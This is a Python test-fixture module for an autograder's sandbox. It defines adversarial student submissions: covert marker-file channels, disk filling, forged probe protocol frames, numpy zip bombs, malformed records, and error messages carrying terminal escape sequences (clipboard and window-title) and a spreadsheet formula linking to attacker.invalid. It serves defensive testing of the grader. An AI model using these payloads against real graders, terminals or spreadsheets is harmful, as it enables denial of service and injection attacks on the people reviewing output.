"""Submissions that attack the grader's boundary: every way data leaves a sandbox.

Each is the reference solution plus attack code, so that an attack that
fails costs nothing (or only what it breaks on purpose), and an attack that
works shows in the scores, the grader's time or memory, or what reaches the
instructor's terminal and spreadsheet.  They are written without looking at
how the grader lays out its folders: they search for whatever they can reach.

* ``channel``: the notebook writes a marker into every folder it can write
  (found by walking from its own command line, /tmp, /dev/shm, /var/tmp, /run
  and its home); the student's ``fit_generative_model``, in the probe,
  searches the same way and, if it finds a marker, returns a model without
  regularization (which loses points).  With no channel it is the reference.
* ``disk_fill``: the notebook writes until refused into every folder it can
  write (up to 3 GiB, three times the grader's small ``TMPDIR`` in the test),
  then holds it for 25 s while a neighbour is graded.
* ``forged``: inside the probe, the student's functions write the probe's
  own protocol: a record declaring 2,000,000 values and a forged
  ``limits_hit`` with terminal escapes and a spreadsheet formula, then a
  frame declaring 100 GiB followed by 64 MiB.
* ``bombs``: the notebook's export and a probe result written by a patched
  ``numpy.savez``: a member declaring 3.2 GB (20000 x 20000 float64),
  deflated to a few MB; and 120 cells that each print just under the
  per-cell output cap.
  The export's record is also made wrong (values of the wrong type) through
  a patched ``json.dumps``, and the per-class fit writes probe records that
  are not JSON, or of the wrong types.
* ``forged`` also raises, from the per-class fit in the probe, an exception
  whose message carries OSC 52 (clipboard), OSC 0 (window title), CSI and a
  formula.
"""

from __future__ import annotations

from .submissions import Submission, append, prepend

#: Markers the attacks print in their own output, read by the tests.
CHANNEL_LINE = "CHANNEL: the notebook wrote"
FILL_LINE = "FILL: wrote"

FIND = r'''
import os as _gm_os
import sys as _gm_sys


def _gm_folders(per_root=400):
    """Every folder reachable from here: temp folders and home first, then the command line's paths and their
    parents (a few hundred folders from each, so that a deep tree, a virtual environment say, never hides
    the others)."""
    first = ["/tmp", "/dev/shm", "/var/tmp", "/run", _gm_os.path.expanduser("~"),
             _gm_os.environ.get("TMPDIR", "/tmp"), _gm_os.getcwd()]
    then = set()
    for arg in _gm_sys.argv:
        path = _gm_os.path.abspath(arg)
        while path not in ("/", ""):
            then.add(path)
            path = _gm_os.path.dirname(path)
    roots = list(dict.fromkeys(first + sorted(then, key=len, reverse=True)))
    found, seen = [], set()
    for root in roots:
        taken = 0
        for dirpath, dirnames, _ in _gm_os.walk(root):
            if dirpath[len(root):].count(_gm_os.sep) >= 4:
                dirnames[:] = []
            if dirpath not in seen:
                seen.add(dirpath)
                found.append(dirpath)
            taken += 1
            if taken >= per_root:
                break
    return found


def _gm_in_probe():
    return _gm_sys.argv[0].endswith("gm_probe_runner.py")
'''

CHANNEL_NOTEBOOK = FIND + r'''
_gm_written = 0
for _gm_dir in _gm_folders():
    try:
        with open(_gm_os.path.join(_gm_dir, "gm-channel-marker"), "w") as _gm_f:
            _gm_f.write("written by the notebook")
        _gm_written += 1
    except OSError:
        pass
print("CHANNEL: the notebook wrote", _gm_written, "markers")
'''

CHANNEL_PROBE = r'''
_gm_fit = fit_generative_model


def fit_generative_model(x, y):
    mu, sigma, pi = _gm_fit(x, y)
    if _gm_in_probe():
        for folder in _gm_folders():
            if _gm_os.path.exists(_gm_os.path.join(folder, "gm-channel-marker")):
                return mu * 0, sigma, pi  # the channel works: a model that loses points
    return mu, sigma, pi
'''

DISK_FILL = FIND + r'''
import time as _gm_time


def _gm_fill(limit=3 * 2**30):
    chunk = b"x" * (16 * 2**20)
    total = 0
    for folder in _gm_folders():
        if total >= limit:
            break
        if not _gm_os.access(folder, _gm_os.W_OK):
            continue
        number = 0
        while total < limit:
            try:
                with open(_gm_os.path.join(folder, f"gm-fill-{number}"), "wb") as f:
                    for _ in range(16):
                        f.write(chunk)
                        total += len(chunk)
                number += 1
            except OSError:
                break
            print("FILL: wrote", total // 2**20, "MiB so far", flush=True)
    return total


_gm_fill()
_gm_time.sleep(25)
'''

FORGED = FIND + r'''
import json as _gm_json

_gm_fit = fit_generative_model
_gm_predict = predict
_GM_EVIL = "\x1b]52;c;cHduZWQ=\x07\x1b]0;PWNED\x07\x1b[2K\r=HYPERLINK(\"http://attacker.invalid\",\"x\")"


def _gm_send(data):
    view = memoryview(data)
    while view:
        view = view[_gm_os.write(3, view):]


def _gm_forge(function):
    plan = _gm_json.load(open(_gm_sys.argv[1]))
    ids = [call["id"] for call in plan["calls"] if call["function"] == function]
    for call_id in ids:
        record = _gm_json.dumps({"id": call_id, "status": "returned", "length": 2000000, "tuple": True,
                                 "items": [], "limits_hit": [_GM_EVIL], "events": [_GM_EVIL]}).encode()
        _gm_send(f"frame result {call_id} {len(record)} 0\n".encode() + record)
        _gm_send(f"done {call_id}\n".encode())
    others = [call["id"] for call in plan["calls"]]
    _gm_send(f"frame result {others[-1]} 10 {100 * 2**30}\n".encode())
    for _ in range(4):
        _gm_send(b"\0" * (16 * 2**20))


def fit_generative_model(x, y):
    if _gm_in_probe():
        _gm_forge("fit_generative_model")
    return _gm_fit(x, y)


def predict(x, mu, sigma, pi):
    if _gm_in_probe():
        _gm_forge("predict")
    return _gm_predict(x, mu, sigma, pi)
'''

BOMB = r'''
import io as _gm_io
import zipfile as _gm_zipfile
import zlib as _gm_zlib

import numpy as _gm_np

_gm_savez = _gm_np.savez


def _gm_bomb_savez(file, *args, **arrays):
    """An .npz whose every member declares 20000 x 20000 float64 (3.2 GB), deflated to a few MB."""
    header = _gm_io.BytesIO()
    _gm_np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False,
                                                      "shape": (20000, 20000)})
    names = list(arrays) or ["arr_0"]
    with _gm_zipfile.ZipFile(file, "w", compression=_gm_zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for name in names:
            with z.open(name + ".npy", "w", force_zip64=True) as member:
                member.write(header.getvalue())
                zeros = bytes(64 * 2**20)
                for _ in range(8):
                    member.write(zeros)


_gm_np.savez = _gm_bomb_savez
'''

BOMB_OUTPUT_CELL = "print('y' * (2 * 2**20 - 4096))\n"

MALFORMED_NOTEBOOK = r'''
import json as _gm_json_module

_gm_dumps = _gm_json_module.dumps


def _gm_bad_dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and "mu" in obj and "sigma" in obj:
        return _gm_dumps({"mu": {"status": "ok", "keys": 7, "type": {"x": 1}, "error": [1]},
                          "sigma": [1, 2], "pi": "x", "chosen_c": {"status": ["ok"]},
                          "training_errors": {"status": "ok", "type": None}})
    return _gm_dumps(obj, *args, **kwargs)


_gm_json_module.dumps = _gm_bad_dumps
'''

MALFORMED_PROBE = FIND + r'''
import json as _gm_json

_gm_per_class = fit_generative_model_per_class_c


def fit_generative_model_per_class_c(x, y):
    if _gm_in_probe():
        plan = _gm_json.load(open(_gm_sys.argv[1]))
        for call in plan["calls"]:
            if call["function"] == "fit_generative_model_per_class_c":
                bad = [b"{not json", b'[1, 2, 3]', _gm_json.dumps(
                    {"id": call["id"], "status": "returned", "length": "3", "items": 5, "tuple": "yes"}).encode()]
                for body in bad:
                    _gm_os.write(3, f"frame result {call['id']} {len(body)} 7\n".encode() + body + b"notazip")
                _gm_os.write(3, f"done {call['id']}\n".encode())
    return _gm_per_class(x, y)
'''

ESCAPES = FIND + r'''
_gm_per_class_e = fit_generative_model_per_class_c
_GM_EVIL2 = "\x1b]52;c;cHduZWQ=\x07\x1b]0;PWNED\x07\x1b[2K\r\x9b31m=HYPERLINK(\"http://attacker.invalid\",\"x\")"


def fit_generative_model_per_class_c(x, y):
    if _gm_in_probe():
        raise RuntimeError(_GM_EVIL2)
    return _gm_per_class_e(x, y)
'''

#: Student ids are folder names: one of them carries the escapes too (as an LMS download might).
ESCAPED_STUDENT = "=cmd|x"

BOUNDARY_ATTACKS = {
    "channel": Submission(
        "the notebook writes a marker into every folder it can write; the function, in the probe, looks for it "
        "everywhere it can read and returns a broken model if it finds one",
        {"exercise1_code": prepend(CHANNEL_NOTEBOOK), "fit_solution": append(FIND + CHANNEL_PROBE)},
    ),
    "disk_fill": Submission(
        "the notebook writes until refused into every folder it can write (at most 3 GiB) and holds it for 25 s",
        {"exercise3_code": prepend(DISK_FILL)},
    ),
    "forged": Submission(
        "inside the probe, the functions forge the probe's protocol (a record of 2,000,000 values with a forged "
        "limits_hit, then a frame declaring 100 GiB), and the per-class fit raises a message of terminal escapes "
        "and a spreadsheet formula",
        {"fit_solution": append(FORGED), "per_class_solution": append(ESCAPES)},
    ),
    "bombs": Submission(
        "numpy.savez patched to write 3.2 GB members deflated to under a MB (the export and the probe's results), "
        "cells that print just under the per-cell cap, and the export's and the probe's records malformed",
        {"fit_solution": prepend(BOMB), "exercise3_code": append(MALFORMED_NOTEBOOK),
         "per_class_solution": append(MALFORMED_PROBE)},
    ),
}
